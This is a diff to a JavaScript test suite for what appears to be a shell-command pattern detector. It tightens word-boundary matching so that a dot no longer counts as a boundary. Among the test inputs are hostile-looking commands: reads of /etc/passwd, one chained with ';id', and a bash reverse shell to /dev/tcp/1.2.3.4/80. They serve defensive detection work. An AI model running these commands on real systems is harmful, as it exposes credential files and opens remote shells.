@@ -82,13 +82,16 @@ test('whole words match only between boundaries, however the word is quoted or r
   assert.deepEqual(hit("sh -c 'id;w|head'"), [0]);
   assert.deepEqual(hit('sh -c "$(w)"'), [0]);
   assert.deepEqual(hit('x', { executable: '/usr/bin/W' }), [0], 'case folded');
-  assert.deepEqual(hit('wget -q http://www.example.com/w.tgz'), [0], 'w.tgz: the dot counts as a boundary too (generous)');
+  assert.deepEqual(hit('wget -q http://www.example.com/w.tgz'), [], 'w.tgz is another name');
+  assert.deepEqual(hit('curl -s -w %{http_code} http://x'), [], 'an option is not the name');
+  assert.deepEqual(hit('apt-get install w3m'), []);
   assert.deepEqual(hit('wget -q http://example.com/x'), [], 'w inside words does not match');
   assert.equal(hit('echo a`w`'), 'all', 'a backtick would join the word to its neighbour');
   assert.deepEqual(hit('cat /etc/passwd'), [1]);
   assert.deepEqual(hit('cat /etc/passwd/'), [1]);
   assert.deepEqual(hit("cat '/etc/passwd'"), [1]);
-  assert.deepEqual(hit('cat /etc/passwd.bak'), [1], 'generous: a dot is a boundary');
+  assert.deepEqual(hit('cat /etc/passwd.bak'), []);
+  assert.deepEqual(hit('cat /etc/passwd;id'), [1]);
   assert.deepEqual(hit('cat /etc/passwdx'), []);
   assert.deepEqual(hit('bash -i >& /dev/tcp/1.2.3.4/80 0>&1'), [2], 'substrings still match across boundaries');
 });
